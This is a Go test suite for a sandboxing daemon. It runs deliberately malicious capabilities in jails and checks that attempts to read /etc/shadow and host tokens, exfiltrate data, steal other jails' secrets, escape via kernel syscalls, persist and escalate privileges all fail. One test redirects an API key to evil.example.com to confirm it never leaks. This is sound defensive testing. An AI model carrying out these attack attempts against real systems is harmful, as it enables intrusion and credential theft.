package test_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"glasshouse/api/client"
	"glasshouse/api/wire"
	"glasshouse/fault"
	"glasshouse/id"
	"glasshouse/jail/backend/backendtest"
	"glasshouse/policy/egress/egresstest"
)

// attackProgram builds the program test/attack.
func attackProgram() (string, error) { return backendtest.Find("./test/attack") }

// A den is a directory with the program and the manifests of malicious capabilities.
type den struct {
	*daemonHarness
	dir  string
	mark string // in the arguments of their processes
}

func newDen(h *daemonHarness) *den {
	h.Helper()
	program, err := attackProgram()
	if err != nil {
		h.Fatal(err)
	}
	d := &den{daemonHarness: h, dir: h.TempDir(), mark: "mark" + newCanary()}
	d.addProgram(program)
	for _, dir := range []string{"tmp", "etc", "mnt", "root", "bin"} {
		if err := os.MkdirAll(filepath.Join(d.dir, "root", dir), 0o755); err != nil {
			h.Fatal(err)
		}
	}
	return d
}

// addProgram copies a program to the directory that the capabilities see at /app.
func (d *den) addProgram(program string) {
	d.Helper()
	b, err := os.ReadFile(program)
	if err != nil {
		d.Fatal(err)
	}
	d.write("src/"+filepath.Base(program), string(b))
}

func (d *den) write(name, text string) {
	d.Helper()
	path := filepath.Join(d.dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		d.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		d.Fatal(err)
	}
}

// maliciousManifest returns the manifest of a malicious capability in a container. more must not repeat keys
// that are set here.
func (d *den) maliciousManifest(cid, effects, files, more string) string {
	return fmt.Sprintf(`(capability %q :version "1.0.0" :description "Means harm" :effects [%s]
  :runtime {:type :container :rootfs "root" :entrypoint ["/app/attack" %q]}
  :filesystem {%s :mounts [{:host "src" :guest "/app" :mode :ro}]} %s)
`, cid, effects, d.mark, files, more)
}

// allow registers capabilities and approves them.
func (d *den) allow(manifests ...string) {
	d.Helper()
	for _, c := range d.register(manifests...) {
		if c.Approval != "" {
			d.says("approve", string(c.Approval))
		}
		d.approved(c.ID)
	}
}

func (d *den) register(manifests ...string) []wire.Capability {
	d.Helper()
	all, err := d.Register(d.Context(), wire.Register{File: "den.rtfs", Manifest: strings.Join(manifests, "\n"), Dir: d.dir})
	if err != nil {
		d.Fatal(err)
	}
	return all
}

// A tried is the result of one attempt of test/attack.
type tried struct{ What, Got, Error string }

// attack runs the attempts of one kind in a capability and returns their results.
func (d *den) attack(cid, do string, words map[string]string, change ...func(*wire.Call)) []tried {
	d.Helper()
	called, err := d.order(d.Context(), cid, do, words, change...)
	if err != nil || called.State != "done" {
		d.Fatalf("%s of %s is %s: %+v, %v\n%s", do, cid, called.State, called.Error, err, called.Log)
	}
	var out struct{ Tried []tried }
	if err := json.Unmarshal(called.Output, &out); err != nil || len(out.Tried) == 0 {
		d.Fatalf("%s attempts %s, %v", cid, called.Output, err)
	}
	return out.Tried
}

func (d *den) order(ctx context.Context, cid, do string, words map[string]string, change ...func(*wire.Call)) (wire.Called, error) {
	input, err := json.Marshal(map[string]any{"do": do, "words": words})
	if err != nil {
		d.Fatal(err)
	}
	call := wire.Call{Input: input}
	for _, f := range change {
		f(&call)
	}
	return d.Call(ctx, cid, call)
}

// fails is like attack, but fails the test for each attempt that succeeds.
func (d *den) fails(cid, do string, words map[string]string, change ...func(*wire.Call)) {
	d.Helper()
	all := d.attack(cid, do, words, change...)
	for _, a := range all {
		if a.Got != "" {
			d.Errorf("%s, %s: got %s, want failure", cid, a.What, a.Got)
		}
	}
	d.Logf("%s: %d attempts to %s", cid, len(all), do)
}

// backwards encodes values reversed, so that the encoded text does not contain the value.
func backwards(values ...string) string {
	b := []byte(strings.Join(values, " "))
	slices.Reverse(b)
	return string(b)
}

// got returns the result of an attempt.
func got(all []tried, what string) tried {
	i := slices.IndexFunc(all, func(t tried) bool { return t.What == what })
	if i < 0 {
		return tried{Error: "it was not tried"}
	}
	return all[i]
}

// onHost returns the host's processes whose arguments contain the mark.
func (d *den) onHost() (pids []string) {
	names, _ := filepath.Glob("/proc/[0-9]*/cmdline") // the pattern is valid
	for _, name := range names {
		if b, err := os.ReadFile(name); err == nil && strings.Contains(string(b), d.mark) {
			pids = append(pids, filepath.Base(filepath.Dir(name)))
		}
	}
	return pids
}

// holds keeps a capability running until the returned function is called.
func (d *den) holds(cid string) (stop func()) {
	d.Helper()
	ctx, cancel := context.WithCancel(d.Context())
	done := make(chan struct{})
	go func() {
		defer close(done)
		d.order(ctx, cid, "hold", nil) // it ends with its caller
	}()
	if !within(30*time.Second, func() bool { return len(d.onHost()) > 0 }) {
		d.Errorf("%s does not start", cid)
	}
	return func() {
		cancel()
		<-done
		d.waitStopped()
	}
}

// waitStopped waits until no process of the capabilities is left.
func (d *den) waitStopped() {
	d.Helper()
	if !within(20*time.Second, func() bool {
		jails, err := client.Collect(d.Jails(d.Context(), client.JailFilter{}))
		return err == nil && len(jails) == 0 && len(d.onHost()) == 0
	}) {
		d.Errorf("processes left: %q", d.onHost())
	}
}

// TestAttackReadHostFiles tries to read files of the host by path, link, mount, process,
// descriptor, file handle and device.
func TestAttackReadHostFiles(t *testing.T) {
	secret := newCanary()
	t.Setenv("HOST_SECRET", secret) // inherited by the daemon
	d := newDen(open(t, ""))
	outside := filepath.Join(t.TempDir(), "outside")
	if err := os.WriteFile(outside, []byte(secret), 0o644); err != nil {
		t.Fatal(err)
	}
	token, err := os.ReadFile(filepath.Join(d.data, "token"))
	if err != nil {
		t.Fatal(err)
	}
	d.write("src/shown", "what everybody may see")
	d.write("beside", secret)

	// Mounts that lead outside are refused at registration.
	for what, mount := range map[string]string{
		"an absolute path": "/etc", "the directory above": "..", "a way round": "src/../../..", "a link": "src/out",
	} {
		if what == "a link" {
			if err := os.Symlink("/etc", filepath.Join(d.dir, "src/out")); err != nil {
				t.Fatal(err)
			}
		}
		text := strings.Replace(d.maliciousManifest("read.out", ":exec", "", ""), `:host "src"`, fmt.Sprintf(":host %q", mount), 1)
		if _, err := d.Register(t.Context(), wire.Register{File: "out.rtfs", Manifest: text, Dir: d.dir}); err == nil {
			t.Errorf("a mount of %s was registered", what)
		}
	}
	if err := os.Remove(filepath.Join(d.dir, "src/out")); err != nil {
		t.Fatal(err)
	}

	d.allow(d.maliciousManifest("read.host", ":exec", "", ""))
	if all := d.attack("read.host", "read", map[string]string{"values": "everybody", "paths": "/none"}); got(all, "what is shown /app/shown").Got == "" {
		t.Errorf("a readable file is not found: %+v", all)
	}
	d.fails("read.host", "read", map[string]string{
		"values": secret + " " + strings.TrimSpace(string(token)) + " root:$",
		"paths":  strings.Join([]string{outside, filepath.Join(d.dir, "beside"), filepath.Join(d.data, "token"), filepath.Join(d.data, "secrets.key"), "/etc/shadow"}, " "),
	})
}

// TestAttackWriteToHost tries to change read-only mounts and settings of the host in every known
// way, and to write more than the quota.
func TestAttackWriteToHost(t *testing.T) {
	d := newDen(open(t, ""))
	d.write("src/file", "as it was")
	outside := filepath.Join(t.TempDir(), "outside")
	pattern, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	if err != nil {
		t.Fatal(err)
	}
	d.allow(d.maliciousManifest("write.host", ":exec", ":mode :ephemeral :quota-mb 32", ""))
	before := sumOf(t, filepath.Join(d.data, "capabilities"))
	d.fails("write.host", "write", map[string]string{"file": "/app/file", "outside": outside})
	if after := sumOf(t, filepath.Join(d.data, "capabilities")); after != before {
		t.Error("the files of the capability changed")
	}
	if b, err := os.ReadFile("/proc/sys/kernel/core_pattern"); err != nil || string(b) != string(pattern) {
		t.Errorf("the host's core_pattern changed to %q, %v", b, err)
	}
	if _, err := os.Stat(outside); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a file was created outside: %v", err)
	}
}

// sumOf returns a digest of the files below a directory and their content.
func sumOf(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := e.Info()
		if err != nil {
			return err
		}
		fmt.Fprintln(&b, path, info.Mode(), info.Size(), info.ModTime())
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAttackNetworkExfiltration makes all attempts of test/escape from a capability that may
// reach one host and from one without network. A third asks a capability with network access to
// send data that it may not send itself.
func TestAttackNetworkExfiltration(t *testing.T) {
	if !ownWorld(t) {
		return
	}
	program := buildEscape(t)
	w := newWild(t)
	d := newDen(open(t, tools(), "--listen", "0.0.0.0:0", "--insecure"))
	_, api, _ := net.SplitHostPort(d.tcpAddr())
	d.addProgram(program)
	abstract := listenAbstract(t)
	escape := func(cid, more string) string {
		text := d.maliciousManifest(cid, ":network", "", more+` :resources {:timeout-ms 60000 :memory-mb 256}`)
		env := fmt.Sprintf(`:env {"HOST_API" %q "HOST_SOCKET" %q "HOST_ABSTRACT" %q "HOST_JAILS" ""}`, api, filepath.Join(d.data, "glasshouse.sock"), abstract)
		return strings.Replace(text, fmt.Sprintf(`["/app/attack" %q]`, d.mark), `["/app/escape" "-quick"] `+env, 1)
	}
	one := `:network {:mode :proxy :allowed-hosts ["api.example.com"] :allowed-ports [443]}`
	d.allow(
		escape("net.one", one), escape("net.none", one+" :egress [:none]"),
		d.maliciousManifest("net.post", ":network", "", one),
		d.maliciousManifest("net.reader", ":network", "", `:data-classes {:input [:pii] :output [:pii]} :egress [:none]`),
	)
	for _, cid := range []string{"net.one", "net.none"} {
		called, err := d.Call(t.Context(), cid, wire.Call{Input: json.RawMessage(`{}`)})
		if err != nil || called.State != "done" {
			t.Fatalf("%s is %s: %+v, %v\n%s", cid, called.State, called.Error, err, called.Log)
		}
		var all map[string]struct{ Answer, Err string }
		if err := json.Unmarshal(called.Output, &all); err != nil || len(all) < 150 {
			t.Fatalf("%s: %d attempts, %v", cid, len(all), err)
		}
		for what, o := range all {
			if strings.Contains(o.Answer, egresstest.Reached) || cid == "net.none" && o.Err == "" && strings.Contains(o.Answer, "welcome") {
				t.Errorf("%s escaped by %s: %q", cid, what, o.Answer)
			}
		}
		if astray := w.strayPackets(); len(astray) > 0 {
			t.Errorf("%s: packets were sent to %q", cid, astray)
		}
		t.Logf("%s: %d attempts in %v", cid, len(all), time.Duration(called.Usage.WallMS)*time.Millisecond)
	}
	if names := unasked(w.Queries()); len(names) > 0 {
		t.Errorf("the host's name server was queried for %q", names)
	}
	refused, err := client.Collect(d.Chain(t.Context(), map[string][]string{"kind": {"egress"}}))
	if err != nil || len(refused) < 50 {
		t.Errorf("the audit log has %d denied attempts, %v; want at least 50", len(refused), err)
	}

	// A capability that reads personal data cannot have another capability send it.
	send := map[string]string{"id": "net.post", "input": `{"do":"ask","words":{"urls":"https://api.example.com/?a=leaked"}}`}
	personal := func(c *wire.Call) { c.Labels = []string{"pii"} }
	if a := got(d.attack("net.reader", "call", send, personal), "net.post"); a.Got != "" || !strings.Contains(a.Error, "denied") || !strings.Contains(a.Error, "pii") {
		t.Errorf("personal data was passed to a capability with network access: %+v", a)
	}
	if a := got(d.attack("net.reader", "call", send), "net.post"); a.Got == "" {
		t.Errorf("public data was not passed: %+v", a)
	}
}

// A capability with its own secret searches for the secret of another capability that runs at the
// same time, and for a secret that the proxy adds to its requests.
func TestAttackStealSecretsOfOtherJails(t *testing.T) {
	d := newDen(open(t, ""))
	mine, theirs, injected := newCanary(), newCanary(), newCanary()
	d.setSecret("MINE", mine)
	d.setSecret("THEIRS", theirs)
	d.setSecret("INJECTED", injected)
	more := `:secrets [:MINE :INJECTED] :network {:mode :proxy :allowed-hosts ["api.example.com"] :inject [{:secret :INJECTED}]}`
	d.allow(d.maliciousManifest("steal.from", ":exec :secrets", "", `:secrets [:THEIRS] :resources {:timeout-ms 120000}`), d.maliciousManifest("steal.own", ":exec :secrets :network", "", more))

	// The other capability has its secret in memory during the search.
	defer d.holds("steal.from")()
	words := map[string]string{"backwards": backwards(theirs, injected), "names": "THEIRS INJECTED ../secrets/THEIRS"}
	d.fails("steal.own", "secrets", words)
	own := map[string]string{"backwards": backwards(mine), "names": "MINE"}
	if a := got(d.attack("steal.own", "secrets", own), "by name MINE"); a.Got == "" {
		t.Errorf("the capability lacks its own secret: %+v", a)
	}

	// Requesting the secret of another capability requires an approval.
	v2 := strings.Replace(strings.Replace(d.maliciousManifest("steal.own", ":exec :secrets :network", "", more), "1.0.0", "1.0.1", 1), ":secrets [:MINE", ":secrets [:THEIRS :MINE", 1)
	if all := d.register(v2); len(all) != 1 || all[0].State != "pending" {
		t.Errorf("a version that requests more: got %+v, want pending", all)
	}
	d.fails("steal.own", "secrets", words)
}

// Excessive time, memory, processes, disk and output are each cut off and named in the error, and
// other capabilities continue.
func TestAttackExhaustResources(t *testing.T) {
	d := newDen(open(t, ""))
	limits := `:resources {:cpu-shares 128 :memory-mb 64 :timeout-ms %d :pids 32}`
	quota := ":mode :ephemeral :quota-mb 32"
	d.allow(d.maliciousManifest("honest", ":exec", "", ""),
		d.maliciousManifest("exhaust.soon", ":exec", quota, fmt.Sprintf(limits, 2000)), d.maliciousManifest("exhaust.late", ":exec", quota, fmt.Sprintf(limits, 120_000)))
	var wg sync.WaitGroup
	for what, kind := range map[string]string{"time": "timeout", "processes": "timeout", "memory": "memory", "disk": "storage", "output": "garbled"} {
		cid := "exhaust.late"
		if kind == "timeout" {
			cid = "exhaust.soon"
		}
		wg.Go(func() {
			called, err := d.order(t.Context(), cid, "exhaust", map[string]string{"what": what, "mark": d.mark})
			if err != nil || called.State != "failed" || called.Error == nil || called.Error.Kind != kind {
				t.Errorf("%s: got %s, %+v, %v; want failed with %s", what, called.State, called.Error, err, kind)
			}
		})
	}
	wg.Go(func() {
		for range 3 {
			d.attack("honest", "look", map[string]string{"mark": "nothing"})
		}
	})
	wg.Wait()
	d.waitStopped()
}

// TestAttackEscapeByTheKernel makes system calls with a history of kernel exploits, from a
// container, where seccomp must block them, and with gVisor, where another kernel handles
// them.
func TestAttackEscapeByTheKernel(t *testing.T) {
	d := newDen(open(t, tools()))
	container := d.maliciousManifest("kernel.container", ":exec", "", "")
	gvisor := strings.Replace(d.maliciousManifest("kernel.gvisor", ":exec", "", ":resources {:timeout-ms 60000}"), ":type :container", ":type :gvisor", 1)
	microvm := strings.Replace(gvisor, ":type :gvisor", ":type :microvm", 1)
	usable := func(backend, runtime string) bool {
		return slices.ContainsFunc(d.backends(), func(b wire.Backend) bool { return b.Name == backend && b.Runtime == runtime && b.Usable })
	}
	if !usable("microvm", "") {
		_, err := d.Register(t.Context(), wire.Register{File: "vm.rtfs", Manifest: microvm, Dir: d.dir})
		if err == nil || !strings.Contains(err.Error(), "requires a virtual machine") {
			t.Errorf("registered what requires a virtual machine: %v", err)
		}
	}
	host, err := os.ReadFile("/proc/version")
	if err != nil {
		t.Fatal(err)
	}
	d.allow(container)
	all := d.attack("kernel.container", "kernel", nil)
	for _, a := range all {
		if a.What != "which kernel" && a.Got != "" {
			t.Errorf("in a container, %s: %s", a.What, a.Got)
		}
	}
	if len(all) < 20 {
		t.Errorf("got %d attempts, want at least 20", len(all))
	}
	if !usable("oci", "runsc") {
		_, err := d.Register(t.Context(), wire.Register{File: "vm.rtfs", Manifest: gvisor, Dir: d.dir})
		if err == nil || !strings.Contains(err.Error(), "requires gVisor") {
			t.Errorf("registered without gVisor: %v", err)
		}
		t.Skip("gVisor is not installed, and nothing was run instead")
	}
	d.allow(gvisor)
	all = d.attack("kernel.gvisor", "kernel", nil)
	if a := got(all, "which kernel"); a.Got == "" || a.Got == string(host) {
		t.Errorf("kernel with gVisor = %q, want another than the host's", a.Got)
	}
	for _, a := range all {
		if a.What != "which kernel" && a.Got == "the kernel did it" {
			t.Errorf("with gVisor, %s: %s", a.What, a.Got)
		}
	}
	isolation := map[string]string{}
	for e, err := range d.Chain(t.Context(), url.Values{"kind": {"call.ended"}}) {
		var record struct{ Isolation string }
		if err := errors.Join(err, json.Unmarshal(e.Body, &record)); err != nil {
			t.Fatal(err)
		}
		isolation[e.Capability] = record.Isolation
	}
	if isolation["kernel.container"] != "runc" || isolation["kernel.gvisor"] != "runsc" {
		t.Errorf("the audit log says that the calls were isolated by %v, want runc and runsc", isolation)
	}
}

func (d *den) backends() []wire.Backend {
	d.Helper()
	all, err := client.Collect(d.Backends(d.Context()))
	if err != nil {
		d.Fatal(err)
	}
	return all
}

// One call leaves files in every writable location, and a process. The next call searches for them,
// and so does a call in a sandbox from the warm pool.
func TestAttackPersistMalware(t *testing.T) {
	d := newDen(open(t, ""))
	warm := strings.Replace(d.maliciousManifest("persist.warm", ":exec", "", ""), ":entrypoint", ":warm {:max 2 :ttl-ms 60000} :entrypoint", 1)
	kept := d.maliciousManifest("persist.kept", ":exec :state", ":mode :persistent", "")
	d.allow(d.maliciousManifest("persist", ":exec", "", ""), warm, kept)
	for _, cid := range []string{"persist", "persist.warm"} {
		planted := d.attack(cid, "plant", map[string]string{"mark": d.mark})
		if a := got(planted, "/tmp/plant"); a.Got == "" {
			t.Fatalf("no file could be left in the capability's own files: %+v", planted)
		}
		if a := got(planted, "a process"); a.Got == "" {
			t.Fatalf("no process could be left: %+v", a)
		}
		d.fails(cid, "look", map[string]string{"mark": d.mark})
		d.fails("persist.kept", "look", map[string]string{"mark": d.mark})
	}
	sum := sumOf(t, filepath.Join(d.dir, "root"))
	d.attack("persist.kept", "plant", map[string]string{"mark": d.mark})
	if after := sumOf(t, filepath.Join(d.dir, "root")); after != sum {
		t.Error("the root filesystem changed")
	}
	for _, cid := range []string{"persist", "persist.warm", "persist.kept"} {
		if _, err := d.RevokeCapability(t.Context(), cid, wire.RevokeCapability{Version: "1.0.0"}); err != nil {
			t.Fatal(err)
		}
	}
	d.waitStopped()
}

// Root in a jail tries to gain privileges outside, while the test inspects the process on the host.
func TestAttackPrivilegeEscalation(t *testing.T) {
	d := newDen(open(t, ""))
	d.allow(d.maliciousManifest("privilege", ":exec", "", ":resources {:timeout-ms 120000}"))
	d.fails("privilege", "privilege", nil)

	defer d.holds("privilege")()
	b, err := os.ReadFile("/proc/" + d.onHost()[0] + "/status")
	if err != nil {
		t.Fatal(err) // the capability runs until its stop function is called
	}
	for _, c := range []struct{ what, line string }{
		{"its user is one of the host's", `(?m)^Uid:(\s+[1-9]\d{5,}){4}$`}, {"its group is one of the host's", `(?m)^Gid:(\s+[1-9]\d{5,}){4}$`},
		{"it may gain privileges", `(?m)^NoNewPrivs:\s+1$`}, {"its calls are not filtered", `(?m)^Seccomp:\s+2$`},
		{"it can inherit capabilities", `(?m)^CapInh:\s+0+$`}, {"it has ambient capabilities", `(?m)^CapAmb:\s+0+$`},
		{"it may have more than seven capabilities", `(?m)^CapBnd:\s+0{13}[0-9a-f]{3}$`},
	} {
		if !regexp.MustCompile(c.line).Match(b) {
			t.Errorf("%s:\n%s", c.what, b)
		}
	}
}

// TestCapabilitySecretIsSentOnlyToItsHost follows a secret that the proxy adds to a capability's
// requests. It is sent only to the host it is for, even after a redirect. Echoes of it in responses
// are masked, and no other output has it.
func TestCapabilitySecretIsSentOnlyToItsHost(t *testing.T) {
	if !ownWorld(t) {
		return
	}
	world := internet(t)
	named(t, map[string]string{"api.example.com": serverAddr, "other.example.com": serverAddr, "evil.example.com": serverAddr})
	value := newCanary()
	var mu sync.Mutex
	came := map[string][]string{} // requests that the servers received, by host
	server := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		came[r.Host] = append(came[r.Host], fmt.Sprint(r.URL, r.Header))
		mu.Unlock()
		key := r.Header.Get("X-Api-Key")
		switch r.URL.Path {
		case "/to-other":
			http.Redirect(w, r, "https://other.example.com/landed", http.StatusFound)
		case "/to-evil":
			http.Redirect(w, r, "https://evil.example.com/landed?key="+key, http.StatusTemporaryRedirect)
		default:
			w.Header().Set("X-Echo", key)
			fmt.Fprintf(w, "hello %s: %s, %s", r.Host, key, base64.StdEncoding.EncodeToString([]byte(key)))
		}
	})
	website(t, world, serverAddr+":443", authority(t, "api.example.com", "other.example.com", "evil.example.com"), server)
	website(t, world, serverAddr+":80", nil, server)

	d := newDen(open(t, tools()))
	d.setSecret("API_KEY", value)
	d.allow(d.maliciousManifest("api.ask", ":network", "", `:secrets [:API_KEY]
  :network {:mode :proxy :allowed-hosts ["api.example.com" "other.example.com"] :allowed-ports [443]
            :inject [{:secret :API_KEY :host "api.example.com" :header "X-Api-Key"}]}`))
	urls := "https://api.example.com/echo https://api.example.com/to-other https://api.example.com/to-evil https://other.example.com/ https://evil.example.com/ http://api.example.com/"
	all := d.attack("api.ask", "ask", map[string]string{"urls": urls, "header X-Api-Key": "of-my-own"})
	for url, want := range map[string]string{
		"https://api.example.com/echo":     "hello api.example.com: " + strings.Repeat("*", len(value)),
		"https://api.example.com/to-other": "hello other.example.com: of-my-own",
		"https://other.example.com/":       "hello other.example.com: of-my-own",
	} {
		if a := got(all, url); !strings.Contains(a.Got, want) {
			t.Errorf("%s answers %+v, want %s", url, a, want)
		}
	}
	for _, url := range []string{"https://api.example.com/to-evil", "https://evil.example.com/", "http://api.example.com/"} {
		if a := got(all, url); a.Got != "" || !strings.Contains(a.Error, "403") && !strings.Contains(a.Error, "Forbidden") {
			t.Errorf("%s answers %+v", url, a)
		}
	}
	for _, a := range all {
		if anyOf(forms(value), []byte(a.Got+a.Error)) {
			t.Errorf("%s reveals the value: %+v", a.What, a)
		}
	}
	d.fails("api.ask", "secrets", map[string]string{"backwards": backwards(value), "names": "API_KEY"})

	mu.Lock()
	for host, requests := range came {
		for _, r := range requests {
			if has := strings.Contains(r, value); has != (host == "api.example.com") {
				t.Errorf("%s was sent %s", host, r)
			}
		}
	}
	if len(came["api.example.com"]) != 3 || len(came["other.example.com"]) != 2 || len(came["evil.example.com"]) != 0 {
		t.Errorf("got requests %v", came)
	}
	mu.Unlock()
	if where := d.findValue(value); len(where) > 0 {
		t.Errorf("the value is found in %q", where)
	}
	if where := d.apiLeaks(value, nil, nil); len(where) > 0 {
		t.Errorf("the value is in API responses %q", where)
	}
	calls, err := client.Collect(d.Chain(t.Context(), map[string][]string{"kind": {"call.ended"}, "capability": {"api.ask"}}))
	if err != nil || len(calls) != 2 {
		t.Fatalf("the audit log has %d calls, %v; want 2", len(calls), err)
	}
	var ended struct{ Sandbox id.Jail }
	if err := json.Unmarshal(calls[0].Body, &ended); err != nil || ended.Sandbox == "" {
		t.Fatalf("the audit log does not name the jail: %s, %v", calls[0].Body, err)
	}
	if !within(30*time.Second, func() bool {
		return strings.HasPrefix(d.secretEntries(ended.Sandbox), "granted used used used")
	}) {
		t.Errorf("audit log of the secret: got %q", d.secretEntries(ended.Sandbox))
	}
	if _, err := d.Call(t.Context(), "api.ask", wire.Call{Input: json.RawMessage(`{"do":"ask"}`)}); err != nil {
		t.Fatal(err)
	}
	if err := d.DeleteSecret(t.Context(), "API_KEY"); err != nil {
		t.Fatal(err)
	}
	if _, err := d.order(t.Context(), "api.ask", "ask", nil); fault.KindOf(err) != fault.Conflict {
		t.Errorf("call without its secret: got %v, want conflict", err)
	}
}

// TestSecurityGuaranteesHaveAttackTests checks that the table in docs/security/testing.md names an
// existing test for each guarantee.
func TestSecurityGuaranteesHaveAttackTests(t *testing.T) {
	text, err := os.ReadFile("../docs/security/testing.md")
	if err != nil {
		t.Fatal(err)
	}
	_, table, _ := strings.Cut(string(text), "## What a capability cannot do\n")
	table, _, _ = strings.Cut(table, "\n## ")
	for _, promise := range []string{
		"Read host files", "Write to host", "Network exfiltration", "Steal other secrets",
		"DoS via resources", "Escape via kernel exploit", "Persist malware", "Privilege escalation",
	} {
		if !regexp.MustCompile(`(?m)^\| \*\*` + promise + "\\*\\* \\|.*\\| `test` `TestAttack\\w+` \\|").MatchString(table) {
			t.Errorf("docs/security/testing.md names no test for %q", promise)
		}
	}
	named := regexp.MustCompile("`([a-z/]+)` `(Test\\w+)`").FindAllStringSubmatch(table, -1)
	if len(named) < 15 {
		t.Errorf("docs/security/testing.md names %d tests, want at least 15", len(named))
	}
	for _, n := range named {
		files, _ := filepath.Glob(filepath.Join("..", n[1], "*_test.go")) // the pattern is valid
		if !slices.ContainsFunc(files, func(f string) bool {
			b, err := os.ReadFile(f)
			return err == nil && strings.Contains(string(b), "\nfunc "+n[2]+"(t *testing.T) {")
		}) {
			t.Errorf("test %s does not exist in %s", n[2], n[1])
		}
	}
}
